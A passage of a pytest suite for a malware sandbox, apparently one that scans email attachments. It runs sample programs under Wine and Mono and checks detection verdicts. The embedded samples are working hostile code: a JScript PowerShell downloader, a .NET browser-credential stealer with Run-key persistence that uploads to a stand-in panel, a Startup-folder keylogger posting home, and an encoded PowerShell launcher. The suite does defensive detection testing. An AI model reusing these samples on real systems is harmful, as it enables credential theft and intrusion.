    char dir[MAX_PATH], ini[MAX_PATH + 32];
    SHGetFolderPathA(NULL, CSIDL_APPDATA, NULL, 0, dir);
    lstrcatA(dir, "\\ExampleVendor");
    CreateDirectoryA(dir, NULL);
    sprintf(ini, "%s\\settings.ini", dir);
    WritePrivateProfileStringA("window", "width", "800", ini);
    HKEY k;
    if (RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\ExampleVendor\\Viewer", 0, NULL, 0, KEY_SET_VALUE, NULL, &k,
                        NULL) == 0) {
        RegSetValueExA(k, "LastOpened", 0, REG_SZ, (const BYTE *)"report.pdf", 11);
        RegCloseKey(k);
    }
    printf("viewer 1.0: no file given\n");
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WINE64 is not None, reason=f"Wine test unavailable: {WINE64}")
def test_a_program_saving_its_settings_is_clean(tmp_path, wine_template):
    r = run_sample(tmp_path, compile_pe(tmp_path, SETTINGS, "viewer", libs=("shell32",)), "viewer.exe", timeout_s=60)
    assert r["executed"] and r["verdict"] == "clean", r["findings"]
    assert any(e["value"] == "LastOpened" for e in events(r, "reg_set"))


JS_POWERSHELL = r"""
var sh = new ActiveXObject("WScript.Shell");
var u = ["http://", "upd", ".example-cdn.test/", "a.exe"].join("");
sh.Run("powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('" + u + "', $env:TEMP + '\\a.exe'); " +
       "Start-Process $env:TEMP\\a.exe\"", 0, true);
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WSH is not None, reason=f"Wine test unavailable: {WSH}")
def test_jscript_starting_a_powershell_download_is_malicious(tmp_path, wine_template):
    """Wine's powershell.exe is a stub: the command line it was started with is the evidence."""
    r = run_sample(tmp_path, JS_POWERSHELL.encode(), "scan_0007.js", timeout_s=60, stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert "lolbin_download" in ids(r)
    assert "DownloadFile('http://upd.example-cdn.test/a.exe'" in detail(r, "lolbin_download")


DOTNET_STEALER = r"""
using System;
using System.IO;
using System.Net;
using System.Text;
using Microsoft.Win32;
class P {
    static void Main() {
        string local = Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData);
        string roaming = Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData);
        string[] stores = {
            Path.Combine(local, "Google", "Chrome", "User Data", "Default", "Login Data"),
            Path.Combine(local, "Microsoft", "Edge", "User Data", "Default", "Login Data"),
            Path.Combine(roaming, "Mozilla", "Firefox", "Profiles", "x.default", "logins.json"),
            Path.Combine(roaming, "FileZilla", "recentservers.xml"),
        };
        var loot = new StringBuilder();
        foreach (var s in stores) { try { loot.Append(File.ReadAllText(s)); } catch (Exception) { } }
        using (var k = Registry.CurrentUser.CreateSubKey(@"Software\Microsoft\Windows\CurrentVersion\Run"))
            k.SetValue("ChromeUpdate", Path.Combine(roaming, "chromeupd.exe"));
        try {
            using (var w = new WebClient())
                w.UploadString("http://panel.example-stealer.test/gate.php", "log=" + loot + new string('A', 2048));
        } catch (Exception) { }
    }
}
"""


def _dotnet_missing() -> str | None:
    import shutil

    from mailvm.guest import launcher as L

    reason = wine_missing(64)
    if reason and "wine" not in reason:
        return reason
    if not L.find_tool("mono"):
        return "mono not installed (apt-get install mono-runtime)"
    if not shutil.which("mcs"):
        return "mcs not installed (apt-get install mono-mcs)"
    return None


DOTNET = _dotnet_missing()


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(DOTNET is not None, reason=f".NET test unavailable: {DOTNET}")
def test_dotnet_stealer_under_mono_sweeps_stores_persists_and_uploads(tmp_path):
    import subprocess

    src = tmp_path / "st.cs"
    src.write_text(DOTNET_STEALER)
    subprocess.run(["mcs", f"-out:{tmp_path / 'st.exe'}", str(src)], check=True, timeout=120)
    r = run_sample(tmp_path, (tmp_path / "st.exe").read_bytes(), "Order_Details.exe", timeout_s=60,
                   stop_on_malicious=False)
    assert r["launcher"] == "dotnet_mono" and r["executed"], r["execution"]
    assert r["verdict"] == "malicious", r["findings"]
    assert {"credential_access", "http_upload", "persistence_registry_run", "combo_credentials_exfil",
            "combo_persistence_c2"} <= ids(r)
    assert "credential stores that are not there" in detail(r, "credential_access")  # Mono's %APPDATA% is ~/.config


KEYLOGGER = r"""
#include <windows.h>
#include <shlobj.h>
#include <wininet.h>
#include <stdio.h>
static LRESULT CALLBACK kb(int c, WPARAM w, LPARAM l) { return CallNextHookEx(NULL, c, w, l); }
int main(void) {
    char startup[MAX_PATH], self[MAX_PATH], dst[MAX_PATH * 2];
    SHGetFolderPathA(NULL, CSIDL_STARTUP, NULL, 0, startup);
    GetModuleFileNameA(NULL, self, MAX_PATH);
    sprintf(dst, "%s\\winlogon-helper.exe", startup);
    CopyFileA(self, dst, FALSE);
    HHOOK h = SetWindowsHookExW(WH_KEYBOARD_LL, kb, GetModuleHandleA(NULL), 0);
    HINTERNET i = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
    HINTERNET c = InternetConnectA(i, "keys.example-logs.test", 80, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
    HINTERNET r = HttpOpenRequestA(c, "POST", "/k.php", NULL, NULL, NULL, 0, 0);
    char body[] = "k=hello";
    if (r) { HttpSendRequestA(r, "Content-Type: application/x-www-form-urlencoded\r\n", -1, body, 7);
             InternetCloseHandle(r); }
    InternetCloseHandle(c); InternetCloseHandle(i);
    if (h) UnhookWindowsHookEx(h);
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WINE64 is not None, reason=f"Wine test unavailable: {WINE64}")
def test_keylogger_in_the_startup_folder_posting_home(tmp_path, wine_template):
    r = run_sample(tmp_path, compile_pe(tmp_path, KEYLOGGER, "kl", libs=("shell32", "wininet")), "Scan_0093.exe",
                   timeout_s=60, stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"keyboard_hook", "persistence_startup_folder", "self_copy", "combo_keylogger_exfil",
            "combo_persistence_c2", "combo_self_copy_persistence"} <= ids(r)
    assert "start menu/programs/startup/winlogon-helper.exe" in detail(r, "persistence_startup_folder").lower()


JS_ENCODED = r"""
var sh = new ActiveXObject("WScript.Shell");
sh.Run("powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", 0, true);
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WSH is not None, reason=f"Wine test unavailable: {WSH}")
def test_jscript_starting_encoded_powershell(tmp_path, wine_template):
    r = run_sample(tmp_path, JS_ENCODED.encode(), "invoice_09.js", timeout_s=60, stop_on_malicious=False)
    assert "powershell_encoded_command" in ids(r) and r["verdict"] in ("suspicious", "malicious"), r["findings"]
